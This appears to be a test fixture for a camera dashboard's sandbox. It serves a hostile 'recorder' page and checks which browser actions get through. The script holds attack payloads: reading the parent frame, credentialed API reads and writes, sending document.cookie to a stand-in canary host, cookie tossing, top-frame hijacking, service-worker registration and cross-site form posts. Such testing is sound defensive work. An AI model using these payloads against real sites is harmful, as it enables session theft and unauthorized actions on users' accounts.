/**
 * A page as a recorder under a stranger's rule would serve it: what an honest one does (absolute
 * assets, a session cookie, requests, a socket) and what none should be able to do from inside the
 * dashboard. Each function gives whether it succeeded; the page keeps them for the test to call.
 */
export const honestDeeds = [
  ...['script', 'style', 'picture', 'fetch', 'request', 'socket', 'storage', 'worker'],
] as const;

export const attacks = [
  'parent-document',
  'read-the-api',
  'post-to-the-api',
  'picture-of-the-api',
  'socket-of-the-dashboard',
  'send-away',
  'popup',
  'lead-the-dashboard-away',
  'toss-a-cookie',
  'service-worker',
  'send-a-form',
] as const;

export const hostileHtml = `<!doctype html>
<html><head><title>Recorder</title><link rel="stylesheet" href="/css/recorder.css"></head>
<body><p id="styled">Recorder</p><img id="picture" src="/img/dot.png">
<script src="/js/recorder.js"></script></body></html>`;

export const hostileStyle = '#styled { color: rgb(1, 2, 3); }';
export const hostileWorker = "self.addEventListener('fetch', () => undefined);";

export const hostileScript = `'use strict';
const within = (ms, promise) =>
  Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve(false), ms))]).catch(() => false);
const loads = (image) => new Promise((resolve) => {
  if (image.complete && image.naturalWidth > 0) resolve(true);
  image.onload = () => resolve(true);
  image.onerror = () => resolve(false);
});
const opens = (url) => new Promise((resolve) => {
  const socket = new WebSocket(url);
  socket.onmessage = ({ data }) => resolve(String(data));
  socket.onopen = () => setTimeout(() => resolve('open'), 500);
  socket.onerror = () => resolve('');
});
const imageAt = (url) => {
  const image = new Image();
  image.src = url;
  return loads(image);
};
const submit = (action) => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = action;
  document.body.append(form);
  form.submit();
};

window.honest = {
  script: () => true,
  style: () => getComputedStyle(document.getElementById('styled')).color === 'rgb(1, 2, 3)',
  picture: () => loads(document.getElementById('picture')),
  fetch: async () => (await (await fetch('/watch/state.json')).json()).session === 'known',
  request: () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.status === 200);
    request.onerror = () => resolve(false);
    request.open('GET', '/watch/state.json');
    request.send();
  }),
  socket: async () => /subscriberId/.test(await opens('ws://' + location.host + '/wsapi/subscribeEvents?topics=channelStatus')),
  storage: () => {
    localStorage.setItem('volume', '3');
    return localStorage.getItem('volume') === '3';
  },
  worker: () => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(7)'])));
    worker.onmessage = ({ data }) => resolve(data === 7);
    worker.onerror = () => resolve(false);
  }),
};

window.attack = {
  'parent-document': () => Boolean(parent.document.body),
  'read-the-api': async ({ dashboard }) =>
    Boolean(await (await fetch(dashboard + '/api/cameras', { credentials: 'include' })).text()),
  'post-to-the-api': async ({ dashboard }) => {
    await fetch(dashboard + '/api/views', {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      body: JSON.stringify({ name: 'Tossed', layout: '1', cells: [null] }),
    });
    return true;
  },
  'picture-of-the-api': ({ dashboard, camera }) =>
    imageAt(dashboard + '/api/cameras/' + camera + '/snapshot'),
  'socket-of-the-dashboard': async ({ dashboard }) =>
    (await opens(dashboard.replace('http', 'ws') + '/ws/changes')) !== '',
  'send-away': async ({ canary }) => {
    const went = await Promise.all([
      within(1000, fetch(canary + '/fetch', { mode: 'no-cors' }).then(() => true)),
      within(1000, imageAt(canary + '/image.png')),
      within(1000, imageAt(canary + '/image.png?cookie=' + encodeURIComponent(document.cookie))),
    ]);
    // A beacon says yes before it is judged: the canary has the last word.
    navigator.sendBeacon(canary + '/beacon', 'x');
    return went.some(Boolean);
  },
  popup: ({ canary }) => window.open(canary + '/popup') !== null,
  'lead-the-dashboard-away': ({ canary }) => {
    top.location.href = canary + '/top';
    return false;
  },
  'toss-a-cookie': ({ port }) => {
    for (const name of ['__Host-watchfloor', '__Host-watchfloor-' + port, 'watchfloor', 'watchfloor-' + port]) {
      document.cookie = name + '=tossed; Path=/';
      document.cookie = name + '=tossed; Path=/; Secure';
      document.cookie = name + '=tossed; Path=/api; Secure';
      document.cookie = name + '=tossed; Path=/api; Domain=' + location.hostname.split('.').slice(-2).join('.');
    }
    // Whether it harmed anybody is for the dashboard to say.
    return false;
  },
  'service-worker': async () => Boolean(await navigator.serviceWorker.register('/watch/worker.js')),
  'send-a-form': ({ dashboard, canary }) => {
    submit(canary + '/form');
    submit(dashboard + '/api/views');
    return false;
  },
};

window.run = (deeds, name, where) => within(4000, (async () => deeds[name](where))());
window.messages = () => {
  for (const word of ['esc', 'Escape', { type: 'esc' }, { type: 'leave' }]) parent.postMessage(word, '*');
};
`;
